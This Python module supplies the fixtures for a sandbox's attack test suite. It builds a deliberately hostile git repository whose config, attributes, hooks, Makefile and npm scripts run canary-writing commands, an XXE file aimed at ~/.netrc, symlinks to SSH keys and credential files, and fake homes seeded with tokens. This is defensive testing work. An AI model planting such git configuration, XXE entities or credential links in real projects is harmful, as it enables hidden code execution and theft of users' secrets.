"""The attack suite's machinery: attack files, placeholders, the hostile scratch repository,
and the outer jail every attack executes in.

The outer jail protects this machine while keeping escapes OBSERVABLE: the scratch
repositories, the canary directory, the fake HOME and the jail's /tmp are host directories
bound writable (the test snapshots them before and after, from outside); everything else
is read-only; the real homes are hidden like in the plan sandbox; the network namespace is
the jail's own, shared only with the listeners the supervisor opens; /etc/hosts maps
`attacker.example` to loopback. The jail starts as root of its own user namespace only to
mount a fresh /proc (so bubblewrap can nest), then drops to an unprivileged user.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path

from plan_lsp.policy.sandbox.layout import plan_layout

ATTACK_DIR = Path(__file__).parent
# The checkout these tests run from.
CHECKOUT = Path(__file__).resolve().parents[2]

CLASSES = (
    "expansion",
    "parser",
    "embedded",
    "other_shell",
    "global_options",
    "option_parsing",
    "write_exec_options",
    "network_secrets",
    "robustness",
    "redirections",
    "hostile_repository",
    "home_workspace",
    "host_ipc",
)
# Classes whose attacks run in the user's home opened as the workspace (`home_workspace`),
# with HOME naming it, instead of a fresh copy of the scratch repository.
HOME_WORKSPACE_CLASSES = frozenset({"home_workspace"})
MIN_ATTACKS = 25
PORT = 47_231
SUPERVISOR_PID = 2  # inside the jail: bwrap's init is 1, the supervisor execs as 2
PLACEHOLDERS = ("CANARY", "CANARY_DIR", "PORT", "HOME", "SERVER_PID", "NL", "CR", "TAB", "SRV")
# Where the jail mounts a tree of host IPC endpoints (ipc.py) outside every workspace, as a
# host's /srv: the plan sandbox sees it read-only, like any tree it does not hide.
SRV_TOP = "/srv" if os.path.isdir("/srv") else "/mnt"
SRV_DIR = f"{SRV_TOP}/plan-lsp-ipc"
_REPEAT = re.compile(r"\{REP:(\d+):((?:[^{}]|\{LB\}|\{RB\})*)\}")


def load_attacks(name: str) -> list[str]:
    """The attack lines of one class file: comments (#) and blank lines skipped."""
    lines = (ATTACK_DIR / f"{name}.txt").read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line.strip() and not line.lstrip().startswith("#")]


def expand(text: str, values: Mapping[str, str]) -> str:
    """Fill `{NAME}` placeholders and `{REP:N:text}` repetitions; `{LB}`/`{RB}` are
    literal braces inside a repetition. Anything else in braces (`{}`, `{a,b}`) stays."""
    text = _REPEAT.sub(lambda m: m.group(2) * int(m.group(1)), text)
    for name in PLACEHOLDERS:
        text = text.replace("{" + name + "}", values[name])
    return text.replace("{LB}", "{").replace("{RB}", "}")


def unknown_placeholders(text: str) -> list[str]:
    """Placeholder-looking names that are not placeholders, and placeholders written as a
    bash parameter (`${HOME}` would be filled in, not expanded by bash)."""
    bad = []
    for match in re.finditer(r"(\$?)\{([A-Z_]+)(?::[^{}]*)?\}", _REPEAT.sub("", text)):
        dollar, name = match.groups()
        known = name in (*PLACEHOLDERS, "REP", "LB", "RB")
        if (dollar and known) or (not dollar and not known):
            bad.append(match.group(0))
    return bad


def _git(repo: Path, *args: str, env: Mapping[str, str]) -> None:
    subprocess.run(["git", "-C", str(repo), *args], check=True, env=dict(env),
                   capture_output=True, timeout=30)  # fmt: skip


def build_template(repo: Path, canary_dir: Path, home: Path) -> None:
    """A scratch repository as a hostile one would look: history, branches, a dirty tree,
    and configuration, attributes and build files that name programs writing markers into
    the canary directory if anything ever runs them."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com",
        "GIT_AUTHOR_DATE": "2020-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2020-01-01T00:00:00Z",
    }  # fmt: skip
    repo.mkdir(parents=True)
    _git(repo, "init", "-q", "-b", "master", env=env)
    files = {
        "README.md": "# demo\n\nalpha beta gamma\n",
        "data.csv": "a,b\n1,2\n1,2\n3,4\n",
        "config.json": '{"name": "demo", "version": 1}\n',
        "src/app.py": "def main():\n    return 42\n",
        "src/util.sh": "#!/bin/sh\necho util\n",
        "docs/notes.txt": "notes\n",
        "blob.bin": "binary-ish\n",
        ".gitattributes": "*.bin diff=evil filter=evil\n*.md filter=evil\n",
        "Makefile": (
            f"$(shell touch {canary_dir}/make-shell)\nall:\n\t+touch {canary_dir}/make-plus\n"
        ),
        "conftest.py": f"open({str(canary_dir / 'conftest')!r}, 'w').close()\n",
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"lint": "touch '
        + str(canary_dir / "npm-script")
        + '"}}\n',
    }
    for name, text in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (repo / "src" / "util.sh").chmod(0o755)
    (repo / "link").symlink_to("README.md")
    _git(repo, "add", "-A", env=env)
    _git(repo, "commit", "-q", "-m", "first", env=env)
    (repo / "src" / "app.py").write_text("def main():\n    return 43\n")
    _git(repo, "commit", "-q", "-am", "second", env=env)
    _git(repo, "tag", "v1.0", env=env)
    _git(repo, "branch", "feature", env=env)
    # A dirty tree: a modified tracked file, a staged change, an untracked file.
    (repo / "README.md").write_text("# demo\n\nalpha beta gamma delta\n")
    (repo / "data.csv").write_text("a,b\n1,2\n1,2\n3,4\n5,6\n")
    _git(repo, "add", "data.csv", env=env)
    (repo / "blob.bin").write_text("binary-ish changed\n")
    (repo / "scratch.txt").write_text("untracked\n")

    _archives(repo, home, env)
    # gzip opens `notes.gz` when `notes` is missing; a remote the user's insteadOf rewrites.
    (repo / "notes.gz").symlink_to(home / ".ssh" / "id_rsa")
    _git(repo, "remote", "add", "origin", "https://example.com/demo.git", env=env)

    for sample in hooks_dir(repo).glob("*.sample"):
        sample.unlink()  # fewer files to copy and compare for every attack
    _git(repo, "repack", "-q", "-a", "-d", env=env)
    _git(repo, "prune-packed", env=env)

    def ran(name: str) -> str:
        """A program that says, on stderr and in the canary directory, that it ran."""
        return f"echo HOSTILE-{name} >&2; touch {canary_dir}/{name}"

    hooks = repo / ".git" / "hooks"
    for hook in ("post-index-change", "pre-commit", "post-checkout", "reference-transaction"):
        (hooks / hook).write_text(f"#!/bin/sh\n{ran('hook-' + hook)}\n")
        (hooks / hook).chmod(0o755)
    (canary_dir / "gpg").write_text(f"#!/bin/sh\n{ran('gpg')}\n")
    (canary_dir / "gpg").chmod(0o755)
    with (repo / ".git" / "config").open("a") as config:
        config.write(
            "[core]\n"
            f'\tfsmonitor = "{ran("fsmonitor")}; false"\n'
            f'\tpager = "{ran("pager")}; cat"\n'
            f'\tsshCommand = "{ran("ssh")}"\n'
            "[diff]\n"
            f'\texternal = "{ran("diff-external")}; true"\n'
            '[diff "evil"]\n'
            f'\ttextconv = "{ran("textconv")}; cat"\n'
            f'\tcommand = "{ran("diff-command")}; true"\n'
            '[filter "evil"]\n'
            f'\tclean = "{ran("clean")}; cat"\n'
            f'\tsmudge = "{ran("smudge")}; cat"\n'
            "[pager]\n"
            f'\tlog = "{ran("pager-log")}; cat"\n'
            "[alias]\n"
            f'\tst = "!{ran("alias")}"\n'
            "[log]\n"
            "\tshowSignature = true\n"
            # Files outside the workspace whose content git prints if asked the right way:
            # `git config --list` shows what an include pulls in, `git check-attr` the words
            # of an attributes file.
            "[include]\n"
            f"\tpath = {home}/.pypirc\n"
            f"\tpath = {home}/work/other/.git/config\n"
            # Files git opens by the name a key gives, and prints words of: neutralised by
            # the shim's overrides (`git.toml`).
            "[core]\n"
            f"\tattributesFile = {home}/.netrc\n"
            f"\texcludesFile = {home}/.netrc\n"
            "[mailmap]\n"
            f"\tfile = {home}/.netrc\n"
            "[diff]\n"
            f"\torderFile = {home}/.netrc\n"
            "[gpg]\n"
            f'\tprogram = "{canary_dir}/gpg"\n'
        )


def _archives(repo: Path, home: Path, env: Mapping[str, str]) -> None:
    """Untracked files for the archive, XML and checksum attacks: a tar and a zip archive,
    an XML file that names an external DTD, parameter entity and XInclude on the listener
    and a secret, and checksum lists that name a file outside the workspace."""
    import tarfile
    import zipfile

    with tarfile.open(repo / "archive.tar.gz", "w:gz") as tar:
        tar.add(repo / "README.md", arcname="README.md")
    with zipfile.ZipFile(repo / "archive.zip", "w") as zf:
        zf.write(repo / "README.md", arcname="README.md")
    (repo / "evil.xml").write_text(
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE r SYSTEM "http://127.0.0.1:{PORT}/x.dtd" [\n'
        f'<!ENTITY e SYSTEM "file://{home}/.netrc">\n'
        f'<!ENTITY % p SYSTEM "http://127.0.0.1:{PORT}/p.ent">\n'
        "%p;\n]>\n"
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><a>&e;</a>'
        f'<xi:include href="{home}/.netrc" parse="text"/></r>\n'
    )
    digest = "0" * 64
    (repo / "SUMS").write_text(f"{digest}  README.md\n{digest}  {home}/.netrc\n")
    # A link named like an object name the history prints: `cat $(git rev-parse HEAD~1)`
    # reads the credentials through it.
    parent = subprocess.run(
        ["git", "-C", str(repo), "rev-parse", "--verify", "HEAD~1"],
        env=dict(env), capture_output=True, text=True, check=True, timeout=30,
    ).stdout.strip()  # fmt: skip
    (repo / parent).symlink_to(home / ".netrc")


def hooks_dir(repo: Path) -> Path:
    return repo / ".git" / "hooks"


def fake_home(home: Path, token: str) -> None:
    """A home directory with credentials that contain `token`."""
    for rel, text in {
        ".ssh/id_rsa": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{token}\n",
        ".aws/credentials": f"[default]\naws_secret_access_key = {token}\n",
        # Punctuation, as passwords have: a program that prints the words it cannot parse
        # (git reading it as an attributes file) prints this one whole.
        ".netrc": f"machine example.com login a password {token}@#!/\n",
        ".git-credentials": f"https://a:{token}@example.com\n",
        ".config/gcloud/credentials.db": f"{token}\n",
        # git applies the user's configuration to every repository: a remote on example.com
        # reads back with the token.
        ".gitconfig": "[user]\n\tname = a\n\temail = a@example.com\n"
        f'[url "https://a:{token}@example.com/"]\n\tinsteadOf = https://example.com/\n',
        # Valid git configuration syntax: a repository's `include.path` can pull it in.
        ".pypirc": f"[pypi]\n\tusername = __token__\n\tpassword = {token}\n",
        # Another repository of the user's, with a token in its remote URL.
        "work/other/.git/config": (
            f'[remote "origin"]\n\turl = https://a:{token}@example.com/other.git\n'
        ),
    }.items():
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (home / ".ssh").chmod(0o700)


# Dot entries of a home opened as the workspace, each holding the token: the credentials of
# many tools, one no list knows, shell histories.
HOME_WORKSPACE_SECRETS = (
    ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".config/git/credentials",
    ".git-credentials", ".pgpass", ".my.cnf", ".docker/config.json", ".npmrc", ".pypirc",
    ".bash_history", ".zsh_history", ".netrc", ".kube/config", ".config/some-new-tool/token",
    ".cargo/credentials.toml", ".local/share/keyrings/login.keyring",
)  # fmt: skip


def home_workspace(home: Path, token: str) -> None:
    """A home to open as the workspace: the credentials above, a project (`src/app.py`), a
    toolchain (`.cargo/bin/tool`), links from the project to the credentials, a dot link to
    the project, and a git repository of the home tracking `.pgpass` and the project."""
    for rel in HOME_WORKSPACE_SECRETS:
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f'{{"secret": "{token}"}}\n' if rel.endswith(".json") else f"{token}\n")
    (home / "src").mkdir(parents=True, exist_ok=True)
    (home / "src" / "app.py").write_text("def main():\n    return 42\n")
    (home / ".cargo" / "bin").mkdir(parents=True, exist_ok=True)
    (home / ".cargo" / "bin" / "tool").write_text("toolchain\n")
    (home / "src" / "key-link").symlink_to(home / ".ssh" / "id_ed25519")
    (home / "src" / "aws-link").symlink_to(home / ".aws")
    (home / ".work").symlink_to(home / "src")
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com",
    }  # fmt: skip
    _git(home, "init", "-q", "-b", "master", env=env)
    _git(home, "add", ".pgpass", "src/app.py", env=env)
    _git(home, "commit", "-q", "-m", "dots", env=env)


def jail_argv(
    base: Path, jail_tmp: Path, hosts: Path, argv: list[str], *, srv: Path | None = None
) -> list[str]:
    """`argv` in the outer jail (see the module docstring); `srv` mounted at SRV_DIR."""
    bwrap = shutil.which("bwrap") or "bwrap"
    layout = plan_layout([])
    args = [
        bwrap,
        "--unshare-user", "--unshare-pid", "--unshare-net", "--unshare-ipc", "--unshare-uts",
        "--uid", "0", "--gid", "0", "--cap-add", "ALL",  # only for the /proc mount below
        "--ro-bind", "/", "/",
        "--dev", "/dev",
        "--proc", "/proc",
        "--tmpfs", "/run",
        "--bind", str(jail_tmp), "/tmp",
        "--bind", str(base), str(base),
    ]  # fmt: skip
    for hidden in layout.hidden_dirs:
        if not (base == hidden or hidden in base.parents):
            args += ["--tmpfs", str(hidden)]
    for hidden in layout.hidden_files:
        args += ["--ro-bind", "/dev/null", str(hidden)]
    for path in layout.toolchains:
        args += ["--ro-bind", str(path), str(path)]
    # The checkout (the supervisor, plan_lsp) read-only, wherever it lies: a home or /tmp
    # hidden above would hide it otherwise.
    args += ["--ro-bind", str(CHECKOUT), str(CHECKOUT)]
    if srv is not None:
        args += ["--tmpfs", SRV_TOP, "--bind", str(srv), SRV_DIR]
    args += [
        "--ro-bind", str(hosts), "/etc/hosts",
        "--chdir", str(base),
        "--die-with-parent",
        "--new-session",
        "--",
        "sh", "-c",
        'mount -t proc proc /proc && exec unshare --user --map-user=65534 --map-group=65534 '
        '-- "$@"',
        "jail",
        *argv,
    ]  # fmt: skip
    return args


def prepare_jail_tmp(jail_tmp: Path, base: Path) -> None:
    """Create, on the host, the mount points of `base` and of the checkout inside the jail's
    /tmp, so that the jail's set-up writes nothing there after the first snapshot."""
    for path in (base, CHECKOUT):
        rel = path.relative_to("/tmp") if Path("/tmp") in path.parents else None
        if rel is not None:
            (jail_tmp / rel).mkdir(parents=True, exist_ok=True)
